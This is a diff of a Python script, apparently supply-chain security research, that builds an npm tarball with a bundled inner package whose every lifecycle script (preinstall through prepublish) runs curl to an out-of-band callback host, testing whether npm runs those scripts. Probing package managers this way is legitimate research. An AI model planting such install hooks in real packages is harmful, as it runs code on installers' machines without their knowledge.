@@ -5,16 +5,33 @@ Theory: bundledDependencies are copied, not re-installed.
 npm might run lifecycle scripts differently for bundled deps.
 """
 
-import tarfile
-import io
+import gzip
 import os
+import struct
 
 OAST = "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"
-OUTPUT_DIR = "."
+OUTPUT_DIR = os.path.dirname(os.path.abspath(__file__))
+BLOCKSIZE = 512
+END_OF_ARCHIVE = b'\0' * (2 * BLOCKSIZE)
+
+# Inner package with ALL lifecycle scripts
+INNER_PKG = f'''{{
+  "name": "inner-pkg",
+  "version": "1.0.0",
+  "main": "index.js",
+  "scripts": {{
+    "preinstall": "curl -s https://{OAST}/bundled-preinstall || true",
+    "install": "curl -s https://{OAST}/bundled-install || true",
+    "postinstall": "curl -s https://{OAST}/bundled-postinstall || true",
+    "prepare": "curl -s https://{OAST}/bundled-prepare || true",
+    "prepublish": "curl -s https://{OAST}/bundled-prepublish || true"
+  }}
+}}'''.encode()
 
 def create_bundled_tarball():
     """Create tarball with bundledDependencies containing install scripts"""
-    tar = tarfile.open(f'{OUTPUT_DIR}/bundled_test.tar.gz', 'w:gz')
+    buf = bytearray()
+    added_names = []
 
     # Outer package.json with bundledDependencies
     outer_pkg = b'''{
@@ -30,45 +47,58 @@ def create_bundled_tarball():
     # Outer index.js
     outer_idx = b'module.exports = { bundled: true };'
 
-    # Inner package with ALL lifecycle scripts
-    inner_pkg = f'''{{
-  "name": "inner-pkg",
-  "version": "1.0.0",
-  "main": "index.js",
-  "scripts": {{
-    "preinstall": "curl -s https://{OAST}/bundled-preinstall || true",
-    "install": "curl -s https://{OAST}/bundled-install || true",
-    "postinstall": "curl -s https://{OAST}/bundled-postinstall || true",
-    "prepare": "curl -s https://{OAST}/bundled-prepare || true",
-    "prepublish": "curl -s https://{OAST}/bundled-prepublish || true"
-  }}
-}}'''.encode()
-
     inner_idx = b'module.exports = { inner: true };'
 
     # Add outer package files
-    add_file(tar, 'package/package.json', outer_pkg)
-    add_file(tar, 'package/index.js', outer_idx)
+    added_names.append(add_file(buf, 'package/package.json', outer_pkg))
+    added_names.append(add_file(buf, 'package/index.js', outer_idx))
 
     # Add inner package in node_modules (bundled)
-    add_file(tar, 'package/node_modules/inner-pkg/package.json', inner_pkg)
-    add_file(tar, 'package/node_modules/inner-pkg/index.js', inner_idx)
+    added_names.append(add_file(buf, 'package/node_modules/inner-pkg/package.json', INNER_PKG))
+    added_names.append(add_file(buf, 'package/node_modules/inner-pkg/index.js', inner_idx))
 
-    tar.close()
+    buf += END_OF_ARCHIVE
+    with open(f'{OUTPUT_DIR}/bundled_test.tar.gz', 'wb') as f:
+        f.write(gzip.compress(buf, compresslevel=1, mtime=0))
     print(f"[+] Created {OUTPUT_DIR}/bundled_test.tar.gz")
 
     # Show structure
     print("\nTarball structure:")
-    tar = tarfile.open(f'{OUTPUT_DIR}/bundled_test.tar.gz', 'r:gz')
-    for member in tar.getmembers():
-        print(f"  {member.name}")
-    tar.close()
+    for name in added_names:
+        print(f"  {name}")
+
+def make_ustar_header(name, size, mode=0o644):
+    """Build a 512-byte USTAR header for a regular file owned by 0:0 with mtime 0"""
+    encoded = name.encode('utf-8')
+    if len(encoded) > 100:
+        raise ValueError(f"name too long for a ustar header: {name}")
+    header = struct.pack(
+        '100s8s8s8s12s12s8sc100s6s2s32s32s8s8s155s12x',
+        encoded,
+        b'%07o\0' % mode,
+        b'%07o\0' % 0,    # uid
+        b'%07o\0' % 0,    # gid
+        b'%011o\0' % size,
+        b'%011o\0' % 0,   # mtime
+        b' ' * 8,         # checksum is summed with this field as spaces
+        b'0',             # regular file
+        b'',              # linkname
+        b'ustar\0',
+        b'00',
+        b'',              # uname
+        b'',              # gname
+        b'',              # devmajor
+        b'',              # devminor
+        b'',              # prefix
+    )
+    chksum = sum(header) & 0o777777
+    return header[:148] + b'%06o\0 ' % chksum + header[156:]
 
-def add_file(tar, name, content):
-    info = tarfile.TarInfo(name=name)
-    info.size = len(content)
-    info.mode = 0o644
-    tar.addfile(info, io.BytesIO(content))
+def add_file(buf, name, content):
+    buf += make_ustar_header(name, len(content))
+    buf += content
+    buf += b'\0' * (-len(content) % BLOCKSIZE)
+    return name
 
 if __name__ == '__main__':
     create_bundled_tarball()